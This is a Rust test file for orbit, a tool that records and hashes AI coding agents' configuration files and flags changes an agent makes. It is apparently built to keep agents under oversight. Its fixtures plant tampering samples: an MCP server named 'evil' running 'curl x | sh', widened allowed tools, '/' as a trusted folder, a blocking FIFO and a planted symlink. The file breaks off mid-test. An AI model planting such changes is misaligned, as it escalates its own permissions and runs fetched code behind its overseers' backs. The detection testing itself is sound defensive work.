//! The perl programs the scripts run (templates/lib/perl/, placed into the bash parts when a
//! loop is rendered) and the one orbit runs itself (home_explain.pl): each compiles under
//! `use strict; use warnings` with nothing said, alone and as put together, and each does on
//! its own what the scripts rely on: the record of the held files (every engine's reader,
//! alone and in its loop's parts, and what each makes of a malformed file), the explanation
//! of a changed JSON projection, the resident hasher's answers, the subreaper exec (the
//! kernel's answer), the network proxy's pass and refusal.

use std::fs;
use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::process::Stdio;

use crate::support::command;

/// Whether perl is here (skipped with a notice, required under ORBIT_REQUIRE_PERL=1).
fn perl_here() -> bool {
    let ok = command("perl")
        .args(["-e", "1"])
        .output()
        .map(|o| o.status.success())
        .unwrap_or(false);
    crate::support::present_or_skipped(ok, "ORBIT_REQUIRE_PERL", "perl")
}

fn perl_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("templates/lib/perl")
}

/// `perl -c` of the file `path` with strict and warnings in force: Err with what perl said
/// (naming the file) when it does not compile or warns.
fn perl_check(path: &Path) -> Result<(), String> {
    let out = command("perl")
        .args(["-Mstrict", "-Mwarnings", "-c"])
        .arg(path)
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stderr);
    if out.status.success() && said == format!("{} syntax OK\n", path.display()) {
        Ok(())
    } else {
        Err(format!(
            "{}: perl -Mstrict -Mwarnings -c says:\n{said}",
            path.display()
        ))
    }
}

/// Every perl program compiles under strict and warnings with nothing said, and says both
/// itself, so that they are in force when the scripts run it too (but for the proxy, which
/// loads no module at start, warnings.pm neither: its header says so); every file of
/// templates/lib/perl/ is one of them.
#[test]
fn every_perl_program_compiles_with_strict_and_warnings_and_says_nothing() {
    if !perl_here() {
        return;
    }
    for (name, text) in orbit::render::PERL_PROGRAMS {
        let path = perl_dir().join(name);
        assert_eq!(&fs::read_to_string(&path).unwrap(), text, "{name}");
        if let Err(e) = perl_check(&path) {
            panic!("{e}");
        }
        let says = |line: &str| text.lines().any(|l| l.starts_with(line));
        assert!(says("use strict;"), "{name} says no use strict");
        if *name == "net.pl" {
            assert!(text.contains("No module at start"), "{name}");
        } else {
            assert!(
                says("use strict; use warnings;"),
                "{name} says no use warnings"
            );
        }
    }
    let files = fs::read_dir(perl_dir())
        .unwrap()
        .filter(|e| e.as_ref().unwrap().path().extension() == Some("pl".as_ref()))
        .count();
    assert_eq!(
        files,
        orbit::render::PERL_PROGRAMS.len(),
        "a file not checked"
    );
}

/// The programs as they are put together to run (the record of each engine's loop and of
/// orbit, the explanation after every reader) compile with nothing said: no subroutine
/// defined twice, no `our` declared twice.
#[test]
fn the_programs_as_put_together_compile_with_nothing_said() {
    if !perl_here() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let once = orbit::render::PERL_HOME_RECORD_ONCE;
    let mut programs = vec![(
        "record of an engine without a reader".to_string(),
        format!("{}{once}", orbit::render::PERL_HOME_RECORD),
    )];
    for (engine, _, files) in READERS {
        let mut text = orbit::render::PERL_HOME_RECORD.to_string();
        for f in *files {
            text.push_str(program(f));
        }
        programs.push((
            format!("record of a {engine} loop"),
            format!("{text}{once}"),
        ));
    }
    programs.push(("record of orbit".into(), format!("{}{once}", all_readers())));
    programs.push((
        "explanation of orbit".into(),
        format!("{}{}", all_readers(), orbit::render::PERL_HOME_EXPLAIN),
    ));
    for (i, (what, text)) in programs.iter().enumerate() {
        let path = dir.path().join(format!("{i}.pl"));
        fs::write(&path, text).unwrap();
        if let Err(e) = perl_check(&path) {
            panic!("{what}: {e}");
        }
    }
}

/// The check fails, naming the file, on a program that does not compile, on one whose only
/// fault is a warning, and on one strict refuses.
#[test]
fn the_perl_check_fails_on_a_broken_program_and_on_a_warning() {
    if !perl_here() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    for (name, text, says) in [
        ("broken.pl", "sub f { print 1;\n", "Missing right curly"),
        (
            "warns.pl",
            "my $x = 1; my $x = 2;\n",
            "masks earlier declaration",
        ),
        ("loose.pl", "$y = 1;\n", "Global symbol \"$y\""),
    ] {
        let p = dir.path().join(name);
        fs::write(&p, text).unwrap();
        let e = perl_check(&p).expect_err(name);
        assert!(e.starts_with(&p.display().to_string()), "{e}");
        assert!(e.contains(says), "{e}");
    }
    let fine = dir.path().join("fine.pl");
    fs::write(&fine, "my $x = 1; print $x;\n").unwrap();
    perl_check(&fine).unwrap();
}

/// The shared subroutines of the record (home_record.pl), then every engine's reader, as
/// orbit audit and recover hold them.
fn all_readers() -> String {
    [
        orbit::render::PERL_HOME_RECORD,
        orbit::render::PERL_HOME_JSON,
        orbit::render::PERL_HOME_CLAUDE,
        orbit::render::PERL_HOME_CODEX,
        orbit::render::PERL_HOME_COPILOT,
    ]
    .concat()
}

/// The record program `subs` then home_record_once.pl (as `HOME_PERL` is) of a spec on
/// stdin, bounded (a read that blocks fails the test, naming it).
fn record_with(subs: &str, specs: &str) -> String {
    let work = tempfile::tempdir().unwrap();
    let input = work.path().join("specs");
    fs::write(&input, specs).unwrap();
    let prog = work.path().join("record.pl");
    fs::write(
        &prog,
        format!("{subs}{}", orbit::render::PERL_HOME_RECORD_ONCE),
    )
    .unwrap();
    let mut cmd = command("bash");
    cmd.args(["-c", "exec perl \"$1\" <\"$2\"", "record"])
        .arg(&prog)
        .arg(&input);
    let out = crate::support::run_bounded(cmd, std::time::Duration::from_secs(60));
    assert!(
        out.status.success() && out.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// The record of a spec with every engine's reader.
fn record_of(specs: &str) -> String {
    record_with(&all_readers(), specs)
}

fn sha(data: &str) -> String {
    orbit::fsx::sha256_hex(data.as_bytes())
}

/// A HOME of codex's config.toml, claude's settings and ~/.claude.json, and the spec lines
/// that hold them.
fn fixture_home(h: &Path) -> String {
    fs::create_dir_all(h.join(".codex")).unwrap();
    fs::write(
        h.join(".codex/config.toml"),
        "model = \"o3\"\napproval_policy = \"never\"\n[projects.\"/w\"]\ntrust_level = \"trusted\"\n[mcp_servers.x]\ncommand = \"evil\"\n  model = \"kept\"\n[notice]\nhide = true\n",
    )
    .unwrap();
    fs::create_dir_all(h.join(".claude")).unwrap();
    fs::write(
        h.join(".claude/settings.json"),
        "{\"model\": \"x\", \"permissions\": {\"allow\": [\"Bash(*)\"]}, \"hooks\": {}}",
    )
    .unwrap();
    fs::write(
        h.join(".claude.json"),
        "{\"mcpServers\": {}, \"numStartups\": 3, \"projects\": {\"/w\": {\"allowedTools\": [\"Bash\"], \"history\": [1]}, \"/other\": {\"allowedTools\": [\"x\"]}}}",
    )
    .unwrap();
    let h = h.display();
    format!(
        "toml\t{h}/.codex/config.toml\t\njson\t{h}/.claude/settings.json\tpermissions,hooks\njson-projects\t{h}/.claude.json\t/w/sub\nfile\t{h}/.claude/settings.json\t\nfile\t{h}/absent\t\n"
    )
}

/// The record of a codex TOML and claude JSON fixture is what the record's rules give, worked
/// out here independently: the TOML without the tables codex writes and the model it
/// remembers, the JSON projections with keys sorted and empty values left out.
#[test]
fn the_record_program_on_its_own_gives_the_record_its_rules_say() {
    if !perl_here() {
        return;
    }
    let home = tempfile::tempdir().unwrap();
    let specs = fixture_home(home.path());
    let h = home.path().display();
    let settings = fs::read_to_string(home.path().join(".claude/settings.json")).unwrap();
    let toml = sha("approval_policy = \"never\"\n[mcp_servers.x]\ncommand = \"evil\"\n");
    let keys = sha("{\"permissions\":{\"allow\":[\"Bash(*)\"]}}");
    let projects = sha("{\"projects\":{\"/w\":{\"allowedTools\":[\"Bash\"]}}}");
    let mut want: String = specs.lines().map(|l| format!("#\t{l}\n")).collect();
    want.push_str(&format!(
        "toml:{toml}  {h}/.codex/config.toml\nkeys:{keys}  {h}/.claude/settings.json\nkeys:{projects}  {h}/.claude.json\n{}  {h}/.claude/settings.json\nabsent  {h}/absent\n",
        sha(&settings)
    ));
    assert_eq!(record_of(&specs), want);
}

/// The engines whose part places a reader, the kind it reads and the perl files it places
/// after home_record.pl (each engine's part `HOME_PERL_ENGINE`).
const READERS: &[(&str, &str, &[&str])] = &[
    (
        "claude",
        "json-projects",
        &["home_json.pl", "home_claude.pl"],
    ),
    ("codex", "toml", &["home_codex.pl"]),
    ("copilot", "json", &["home_json.pl", "home_copilot.pl"]),
];

fn program(name: &str) -> &'static str {
    orbit::render::PERL_PROGRAMS
        .iter()
        .find(|(n, _)| *n == name)
        .unwrap_or_else(|| panic!("{name} is not a registered perl program"))
        .1
}

/// Each engine's reader on its own (home_record.pl and the files its part places): of the
/// fixture it gives the value every reader together gives for its kind, and for the other
/// engines' kinds `unknown-kind` (it does not hold their readers).
#[test]
fn each_engines_reader_on_its_own_reads_its_kind_and_no_other() {
    if !perl_here() {
        return;
    }
    let home = tempfile::tempdir().unwrap();
    let specs = fixture_home(home.path());
    let all = record_of(&specs);
    for (engine, kind, files) in READERS {
        let mut subs = orbit::render::PERL_HOME_RECORD.to_string();
        for f in *files {
            subs.push_str(program(f));
        }
        let header = all.lines().filter(|l| l.starts_with('#'));
        let kinds: Vec<&str> = header
            .clone()
            .map(|l| l.split('\t').nth(1).unwrap())
            .collect();
        let values = all.lines().filter(|l| !l.starts_with('#'));
        let mut want: String = header.map(|l| format!("{l}\n")).collect();
        for (k, line) in kinds.iter().zip(values) {
            if ["file", "dir", kind].contains(k) {
                want.push_str(&format!("{line}\n"));
            } else {
                let (_, path) = line.split_once("  ").unwrap();
                want.push_str(&format!("unknown-kind  {path}\n"));
            }
        }
        assert_eq!(record_with(&subs, &specs), want, "{engine}'s reader");
    }
}

/// The record through the bash parts of each engine's loop (lib/home_record.sh after the
/// engine's part, home_record_v with the resident hasher off and on) is the record of every
/// reader together: each engine's part places its reader.
#[test]
fn the_runners_part_of_each_engine_computes_what_its_reader_gives() {
    if !perl_here() {
        return;
    }
    for (engine, kind, _) in READERS {
        let work = tempfile::tempdir().unwrap();
        let home = work.path().join("h");
        let specs: String = fixture_home(&home)
            .lines()
            .filter(|l| l.starts_with(&format!("{kind}\t")) || l.starts_with("file\t"))
            .map(|l| format!("{l}\n"))
            .collect();
        let body = r#"
specs=$(cat "$1")
ORBIT_NO_HASHER=1 orbit_hasher_start
home_record_v "$specs" || exit 3
printf '%s\n' "$REPLY" >"$2"
orbit_hasher_start
home_record_hasher_home_v "$specs" || exit 4
printf '%s\n' "$REPLY" >"$3"
"#;
        fs::write(work.path().join("specs"), &specs).unwrap();
        let part = format!("engines/{engine}");
        let out =
            crate::support::bash_with_parts(work.path(), &["common", &part, "home_record"], body)
                .arg(work.path().join("specs"))
                .arg(work.path().join("once"))
                .arg(work.path().join("resident"))
                .output()
                .unwrap();
        assert!(
            out.status.success(),
            "{engine}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let own = record_of(&specs);
        assert!(own.contains(&format!("#\t{kind}\t")), "{own}");
        let once = fs::read_to_string(work.path().join("once")).unwrap();
        assert_eq!(once, own, "{engine}: the program run once");
        let resident = fs::read_to_string(work.path().join("resident")).unwrap();
        assert_eq!(resident, own, "{engine}: the resident hasher");
    }
}

/// Every engine's loop reads every kind its engine holds (engine_home_held, as the runner's
/// home_specs_v lists them): no held path of any engine is `unknown-kind` in its own loop.
#[test]
fn every_engines_loop_reads_every_kind_it_holds() {
    if !perl_here() {
        return;
    }
    for engine in orbit::contract::Engine::ALL {
        let work = tempfile::tempdir().unwrap();
        let home = work.path().join("h");
        fs::create_dir_all(&home).unwrap();
        let body = r#"
HOME=$1 WS=/w ENV_FILE=
home_specs_v
specs=$REPLY
home_record_v "$specs" || exit 3
printf '%s' "$REPLY"
"#;
        let part = format!("engines/{engine}");
        let out = crate::support::bash_with_parts(
            work.path(),
            &["common", &part, "home_record", "runner/home"],
            body,
        )
        .arg(&home)
        .output()
        .unwrap();
        let said = String::from_utf8_lossy(&out.stdout);
        assert!(
            out.status.success(),
            "{engine}: {said}{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let held = said.lines().filter(|l| l.starts_with('#')).count();
        if *engine != orbit::contract::Engine::Custom {
            assert!(held > 0, "{engine}: {said}");
        }
        assert!(!said.contains("unknown-kind"), "{engine}: {said}");
    }
}

/// What each reader makes of a file it cannot read as its kind: claude's and copilot's
/// JSON that does not parse, is not an object or is not a regular file is `unparsable`
/// (an empty file is an empty object; a JSONC file with comment lines is read); codex's
/// TOML is hashed line by line as it stands (not parsed), and a path that is not a regular
/// file is `other` at once: a FIFO there (a hostile agent's) does not hold the record.
#[test]
fn each_reader_says_what_a_malformed_file_is() {
    if !perl_here() {
        return;
    }
    let d = tempfile::tempdir().unwrap();
    let p = |n: &str| d.path().join(n).display().to_string();
    fs::write(d.path().join("cut.json"), "{\"mcpServers\": {\"x\": ").unwrap();
    fs::write(d.path().join("list.json"), "[1, 2]").unwrap();
    fs::write(d.path().join("empty.json"), "").unwrap();
    fs::create_dir(d.path().join("dir.json")).unwrap();
    fs::write(
        d.path().join("c.json"),
        "// copilot writes comments\n{\"trusted_folders\": [\"/w\"], \"other\": 1}\n",
    )
    .unwrap();
    fs::write(
        d.path().join("bad.toml"),
        "x = [\n[[[ broken\nmodel = \"m\"\n",
    )
    .unwrap();
    fs::create_dir(d.path().join("dir.toml")).unwrap();
    let fifo = d.path().join("fifo.toml");
    let made = command("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    let specs = format!(
        "json-projects\t{}\t/w\njson\t{}\tk\njson-projects\t{}\t/w\njson-projects\t{}\t/w\njson\t{}\ttrusted_folders\ntoml\t{}\t\ntoml\t{}\t\ntoml\t{}\t\ntoml\t{}\t\n",
        p("cut.json"),
        p("list.json"),
        p("empty.json"),
        p("dir.json"),
        p("c.json"),
        p("bad.toml"),
        p("dir.toml"),
        p("fifo.toml"),
        p("none.toml"),
    );
    let record = record_of(&specs);
    let values: Vec<&str> = record
        .lines()
        .filter(|l| !l.starts_with('#'))
        .map(|l| l.split_once("  ").unwrap().0)
        .collect();
    assert_eq!(
        values,
        [
            "unparsable".to_string(),
            "unparsable".to_string(),
            format!("keys:{}", sha("{}")),
            "unparsable".to_string(),
            format!("keys:{}", sha("{\"trusted_folders\":[\"/w\"]}")),
            format!("toml:{}", sha("x = [\n[[[ broken\n")),
            "other".to_string(),
            "other".to_string(),
            "absent".to_string(),
        ],
        "{record}"
    );
}

/// Runs home_explain.pl after every reader (as orbit audit and recover do) on `input`.
fn explain(input: &str) -> String {
    let work = tempfile::tempdir().unwrap();
    let prog = work.path().join("explain.pl");
    fs::write(
        &prog,
        format!("{}{}", all_readers(), orbit::render::PERL_HOME_EXPLAIN),
    )
    .unwrap();
    fs::write(work.path().join("input"), input).unwrap();
    let mut cmd = command("bash");
    cmd.args(["-c", "exec perl \"$1\" <\"$2\"", "explain"])
        .arg(&prog)
        .arg(work.path().join("input"));
    let out = crate::support::run_bounded(cmd, std::time::Duration::from_secs(60));
    assert!(
        out.status.success() && out.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// The explanation of a changed JSON projection on its own (home_explain.pl): of a
/// ~/.claude.json where a server and an allowed tool were planted after the record, it names
/// exactly those two and gives the file without them (its record the recorded one again, the
/// engine's own bookkeeping kept); of copilot's config.json a trusted folder added; of a
/// file that no longer parses, `U`.
#[test]
fn the_explanation_names_what_was_added_to_a_held_json_and_writes_it_back_without() {
    if !perl_here() {
        return;
    }
    let d = tempfile::tempdir().unwrap();
    let claude = d.path().join(".claude.json");
    fs::write(
        &claude,
        "{\"mcpServers\": {\"ok\": {\"command\": \"a\"}}, \"numStartups\": 1, \"projects\": {\"/w\": {\"allowedTools\": [\"Bash\"]}}}",
    )
    .unwrap();
    let copilot = d.path().join("config.json");
    fs::write(
        &copilot,
        "// mine\n{\"trusted_folders\": [\"/w\"], \"last\": 1}\n",
    )
    .unwrap();
    let specs = format!(
        "json-projects\t{}\t/w\njson\t{}\ttrusted_folders\n",
        claude.display(),
        copilot.display()
    );
    let recorded: Vec<String> = record_of(&specs)
        .lines()
        .filter(|l| !l.starts_with('#'))
        .map(|l| l.split_once("  ").unwrap().0.to_string())
        .collect();
    fs::write(
        &claude,
        "{\"mcpServers\": {\"ok\": {\"command\": \"a\"}, \"evil\": {\"command\": \"curl x | sh\"}}, \"numStartups\": 2, \"projects\": {\"/w\": {\"allowedTools\": [\"Bash\", \"Write\"]}}}",
    )
    .unwrap();
    fs::write(
        &copilot,
        "{\"trusted_folders\": [\"/w\", \"/\"], \"last\": 2}\n",
    )
    .unwrap();
    let broken = d.path().join("broken.json");
    fs::write(&broken, "{\"mcpServers\": ").unwrap();
    let said = explain(&format!(
        "json-projects\t{}\t/w\t{}\njson\t{}\ttrusted_folders\t{}\njson-projects\t{}\t/w\t{}\n",
        claude.display(),
        recorded[0],
        copilot.display(),
        recorded[1],
        broken.display(),
        recorded[0],
    ));
    let blocks: Vec<&str> = said.split_inclusive(".\n").collect();
    assert_eq!(blocks.len(), 3, "{said}");
    for (block, added, file, spec, was, kept) in [
        (
            blocks[0],
            "A mcpServers.evil\nA projects.\"/w\".allowedTools: \"Write\"\n",
            &claude,
            format!("json-projects\t{}\t/w\n", claude.display()),
            &recorded[0],
            "\"numStartups\" : 2",
        ),
        (
            blocks[1],
            "A trusted_folders: \"/\"\n",
            &copilot,
            format!("json\t{}\ttrusted_folders\n", copilot.display()),
            &recorded[1],
            "\"last\" : 2",
        ),
    ] {
        assert!(block.starts_with(added), "{said}");
        let hex = block[added.len()..]
            .strip_prefix("W ")
            .and_then(|r| r.strip_suffix("\n.\n"))
            .unwrap_or_else(|| panic!("no W line: {said}"));
        let bytes: Vec<u8> = (0..hex.len())
            .step_by(2)
            .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).unwrap())
            .collect();
        fs::write(file, &bytes).unwrap();
        let back = record_of(&spec);
        let value = back.lines().nth(1).unwrap().split_once("  ").unwrap().0;
        assert_eq!(value, was, "{back}");
        // The engine's own bookkeeping, changed since the record, is kept.
        let text = String::from_utf8(bytes).unwrap();
        assert!(text.contains(kept), "{text}");
    }
    assert_eq!(blocks[2], "U \n.\n", "{said}");
}

/// A bin directory whose `perl` is this machine's but cannot load JSON::PP (a module of
/// that name in front of it dies), as a perl without its full core would.
fn perl_without_json_pp(dir: &Path) -> PathBuf {
    let real = String::from_utf8(
        command("bash")
            .args(["-c", "type -P perl"])
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    let fake = dir.join("fake-lib/JSON");
    fs::create_dir_all(&fake).unwrap();
    fs::write(
        fake.join("PP.pm"),
        "die \"JSON::PP is not installed here\\n\";\n",
    )
    .unwrap();
    let bin = dir.join("bin");
    fs::create_dir_all(&bin).unwrap();
    fs::write(
        bin.join("perl"),
        format!(
            "#!/bin/sh\nexec '{}' -I'{}' \"$@\"\n",
            real.trim(),
            dir.join("fake-lib").display()
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(bin.join("perl"), fs::Permissions::from_mode(0o755)).unwrap();
    let loads = command(bin.join("perl"))
        .args(["-MJSON::PP", "-e", "1"])
        .output()
        .unwrap();
    assert!(!loads.status.success(), "the fake perl loads JSON::PP");
    bin
}

/// JSON::PP is needed by the loops whose engine holds JSON files (claude, copilot) alone: with
/// a perl that lacks it, `orbit init` warns of it for those and not for a codex loop, whose
/// parts compute their record with that perl, while a claude loop's parts cannot.
#[test]
fn only_the_engines_that_hold_json_files_need_json_pp() {
    if !perl_here() {
        return;
    }
    // The engines the contract says hold JSON files are those whose part places the JSON
    // reader and names its modules for the preflight.
    for engine in orbit::contract::Engine::ALL {
        let part = orbit::render::engine_part(*engine);
        let json = orbit::contract::runtime::holds_json(*engine);
        assert_eq!(part.contains("@perl:home_json.pl@"), json, "{engine}");
        assert_eq!(
            part.contains("HOME_PERL_MODULES=(\"${ORBIT_PERL_JSON_MODULES[@]}\")"),
            json,
            "{engine}"
        );
    }
    let work = tempfile::tempdir().unwrap();
    let bin = perl_without_json_pp(work.path());
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
    let repo = crate::support::Repo::new();
    for engine in ["codex", "claude", "copilot", "gemini"] {
        let mut cmd = command(crate::support::orbit_bin());
        cmd.args(["init", &format!("goal {engine}"), "--engine", engine])
            .args(["--verify", "exit 1", "--sandbox", "none"])
            .current_dir(repo.path())
            .env("PATH", &path);
        let out = crate::support::run_bounded(cmd, std::time::Duration::from_secs(60));
        crate::support::assert_ok(&out, "orbit init");
        let err = String::from_utf8_lossy(&out.stderr);
        let json = ["claude", "copilot"].contains(&engine);
        assert_eq!(
            err.contains("this machine's perl lacks JSON::PP"),
            json,
            "{engine}: {err}"
        );
    }
    let home = work.path().join("h");
    let specs = fixture_home(&home);
    for (engine, kind, computes) in [("codex", "toml", true), ("claude", "json-projects", false)] {
        let spec: String = specs
            .lines()
            .filter(|l| l.starts_with(&format!("{kind}\t")))
            .map(|l| format!("{l}\n"))
            .collect();
        let body = r#"
ORBIT_NO_HASHER=1 orbit_hasher_start
if home_record_v "$1"; then printf '%s\n' "$REPLY"; else echo "no record"; fi
"#;
        let part = format!("engines/{engine}");
        let out =
            crate::support::bash_with_parts(work.path(), &["common", &part, "home_record"], body)
                .arg(&spec)
                .env("PATH", &path)
                .output()
                .unwrap();
        let said = String::from_utf8_lossy(&out.stdout);
        assert!(out.status.success(), "{engine}: {said}");
        if computes {
            assert_eq!(said, record_of(&spec), "{engine}");
        } else {
            assert_eq!(said, "no record\n", "{engine}");
        }
    }
}

/// The resident hasher on its own: ready, then a string's hash, a file's, "-" for a file it
/// cannot open, the record of held paths (its length, then the record without its last
/// newline), and an end at a request it does not know, with nothing on stderr.
#[test]
fn the_hasher_answers_each_request_as_the_scripts_read_it() {
    if !perl_here() {
        return;
    }
    let work = tempfile::tempdir().unwrap();
    let file = work.path().join("f");
    fs::write(&file, "file bytes\n").unwrap();
    let specs = fixture_home(&work.path().join("h"));
    let path = file.display().to_string();
    let mut req = format!("S 3\nabcF {}\n{path}F 8\n/nonexis", path.len());
    req.push_str(&format!("H {}\n{specs}", specs.len()));
    req.push_str("X 1\nz");
    let mut child = command("perl")
        .arg("-e")
        .arg(orbit::render::PERL_HASHER)
        .arg(all_readers())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(req.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    let record = record_of(&specs);
    let record = record.trim_end_matches('\n');
    let want = format!(
        "ready\n{}\n{}\n-\n{}\n{record}",
        sha("abc"),
        sha("file bytes\n"),
        record.len()
    );
    assert_eq!(String::from_utf8_lossy(&out.stdout), want);
    assert_eq!(out.status.code(), Some(4), "a request it does not know");
    assert_eq!(String::from_utf8_lossy(&out.stderr), "");
}

/// Two listings of trust.sh's are the same: the same lines in any order, each line's fields
/// the same but its two times, which agree to the microsecond (find prints the nanoseconds,
/// perl what a double holds of them).
fn same_listing(a: &str, b: &str) -> Result<(), String> {
    let key = |l: &str| {
        let f: Vec<&str> = l.splitn(6, ' ').collect();
        if f.len() < 6 || f[3] == "-" {
            return (l.to_string(), None);
        }
        let t = |s: &str| s.parse::<f64>().unwrap_or(f64::NAN);
        (
            format!("{} {} {} {}", f[0], f[1], f[2], f[5]),
            Some((t(f[3]), t(f[4]))),
        )
    };
    let sorted = |s: &str| {
        let mut v: Vec<_> = s.lines().map(key).collect();
        v.sort_by(|x, y| x.0.cmp(&y.0));
        v
    };
    let (a, b) = (sorted(a), sorted(b));
    if a.len() != b.len() {
        return Err(format!("{} lines against {}", a.len(), b.len()));
    }
    for (x, y) in a.iter().zip(&b) {
        let close = match (x.1, y.1) {
            (Some((m1, c1)), Some((m2, c2))) => (m1 - m2).abs() < 1e-6 && (c1 - c2).abs() < 1e-6,
            (None, None) => true,
            _ => false,
        };
        if x.0 != y.0 || !close {
            return Err(format!("{x:?} against {y:?}"));
        }
    }
    Ok(())
}

/// The looks trust.sh compares (the loop directory; git's control files, the user's git
/// configuration and the directories of PATH in HOME), taken by the resident hasher, by its
/// program run once, and by find: the same lines every way, so a run whose hasher is gone
/// compares like with like. The loop directory holds what the runner leaves out (its scratch
/// and logs as plain files) and what it names whatever it is (a link, a fifo, a name with a
/// newline, the setup's cache by its line alone); below a PATH directory only its entries
/// count, and git's info/refs not at all.
#[test]
fn the_hasher_lists_what_find_lists() {
    if !perl_here() {
        return;
    }
    let work = tempfile::tempdir().unwrap();
    let w = work.path();
    let lp = w.join("repo/loop");
    for d in [
        "iterations/000001",
        ".run-tmp/deep",
        ".setup-cache/a/b",
        ".pins",
        "home/bin/tool.d",
        "home/.config/git",
    ] {
        let base = if d.starts_with("home") {
            w.to_path_buf()
        } else {
            lp.clone()
        };
        fs::create_dir_all(base.join(d)).unwrap();
    }
    for (f, body) in [
        ("goal.md", "goal\n"),
        ("iterations/000001/agent.log", "log\n"),
        (".run-tmp/deep/scratch", "s"),
        (".setup-cache/a/b/c", "c"),
        ("runner.log", "r"),
        ("runner.log.1", "r"),
        ("notify.log", "n"),
        ("new\nline", "x"),
    ] {
        fs::write(lp.join(f), body).unwrap();
    }
    std::os::unix::fs::symlink("/etc", lp.join(".run-tmp/link")).unwrap();
    std::os::unix::fs::symlink("goal.md", lp.join("goal-link")).unwrap();
    std::os::unix::fs::symlink("/etc", lp.join("runner.log.2")).unwrap();
    let sh = |dir: &Path, script: &str| {
        let ok = command("sh")
            .args(["-c", script])
            .current_dir(dir)
            .status()
            .unwrap();
        assert!(ok.success(), "{script}");
    };
    sh(
        &lp,
        "mkfifo fifo && mkdir 'dir\nname' && touch 'dir\nname/inner'",
    );
    fs::write(w.join("home/bin/tool"), "#!/bin/sh\n").unwrap();
    fs::write(w.join("home/bin/tool.d/below"), "x").unwrap();
    fs::write(w.join("home/.gitconfig"), "[include]\n\tpath = extra.inc\n").unwrap();
    fs::write(w.join("home/.config/git/ignore"), "*.o\n").unwrap();
    sh(
        &w.join("repo"),
        "git init -q . && mkdir -p .git/info && echo refs > .git/info/refs",
    );
    let body = r#"
LOOP_DIR=$1 REPO_ROOT=${1%/loop} WS='' HOME=$2 XDG_CONFIG_HOME=''
unset GIT_CONFIG_GLOBAL
GIT_COMMON_ABS=$REPO_ROOT/.git GIT_DIR_ABS=$REPO_ROOT/.git
PATH=$HOME/bin:$PATH
look() {
  trust_loop_v
  printf '%s' "$REPLY" >"$4/$1.loop"
  trust_git_v
  printf '%s' "$REPLY" >"$4/$1.git"
}
look once "$@"
orbit_hasher_start
look resident "$@"
orbit_hasher_alive || exit 5
orbit_hasher_stop
trust_list_v() { return 1; }
look find "$@"
"#;
    let out_dir = w.join("out");
    fs::create_dir(&out_dir).unwrap();
    let out = crate::support::bash_with_parts(w, &["common", "runner/trust"], body)
        .arg(&lp)
        .arg(w.join("home"))
        .arg(&out_dir)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let read = |n: &str| fs::read_to_string(out_dir.join(n)).unwrap();
    for kind in ["loop", "git"] {
        let (once, resident, find) = (
            read(&format!("once.{kind}")),
            read(&format!("resident.{kind}")),
            read(&format!("find.{kind}")),
        );
        assert_eq!(
            once, resident,
            "{kind}: the program run once and the resident one"
        );
        // Each way really ran: perl's times carry 9 decimals, find's 10.
        let decimals = |listing: &str| {
            listing
                .lines()
                .find_map(|l| {
                    let t = l.split(' ').nth(3).filter(|t| *t != "-")?;
                    Some(t.split('.').nth(1).map_or(0, str::len))
                })
                .unwrap_or_else(|| panic!("{kind}: no timed line: {listing}"))
        };
        assert_eq!((decimals(&resident), decimals(&find)), (9, 10), "{kind}");
        same_listing(&resident, &find)
            .unwrap_or_else(|e| panic!("{kind}: {e}\n{resident}\n---\n{find}"));
    }
    let listing = read("resident.loop");
    let names: Vec<&str> = listing
        .lines()
        .map(|l| l.splitn(6, ' ').nth(5).unwrap_or(l))
        .collect();
    for want in [
        "goal.md",
        "goal-link",
        ".run-tmp/link",
        "runner.log.2",
        "fifo",
        ".setup-cache",
        "iterations/000001/agent.log",
    ] {
        assert!(names.contains(&want), "{want} listed: {listing}");
    }
    for not in [
        ".run-tmp/deep/scratch",
        "runner.log",
        "runner.log.1",
        "notify.log",
        ".setup-cache/a",
    ] {
        assert!(!names.contains(&not), "{not} left out: {listing}");
    }
    assert!(
        listing.contains("X - - - - new\nline") || listing.contains("X - - - - new"),
        "{listing}"
    );
    assert!(
        !listing.contains("inner"),
        "a directory named with a newline is not entered: {listing}"
    );
    let git = read("resident.git");
    let home = w.join("home").display().to_string();
    for want in [
        format!("{home}/bin/tool"),
        format!("{home}/bin/tool.d"),
        format!("{home}/.gitconfig"),
        format!("{home}/.config/git/ignore"),
    ] {
        assert!(
            git.lines().any(|l| l.ends_with(&format!(" {want}"))),
            "{want} watched: {git}"
        );
    }
    assert!(
        git.contains(&format!("absent {home}/extra.inc")),
        "an include not there yet: {git}"
    );
    assert!(
        !git.contains("tool.d/below"),
        "below a PATH directory's entries: {git}"
    );
    assert!(
        !git.contains("info/refs") && git.contains("/.git/info"),
        "{git}"
    );
}

/// The runner's atomic writes through the hasher and without it (state.sh `state_put`,
/// `state_mv`; state_write_file after them), the same either way: a name planted where the
/// temporary file goes (a link to a file outside, as an agent would leave it) is removed,
/// never written through; the text lands whole, synced, under its name; a write that cannot
/// be made says so. And the changes between two listings (`D`) as trust.sh reads `diff`'s,
/// and the processes a marker is in the environment of (`E`) as sweep_env reads `grep -l`'s.
#[test]
fn the_hasher_writes_renames_and_compares_as_the_tools_do() {
    if !perl_here() {
        return;
    }
    let work = tempfile::tempdir().unwrap();
    let w = work.path();
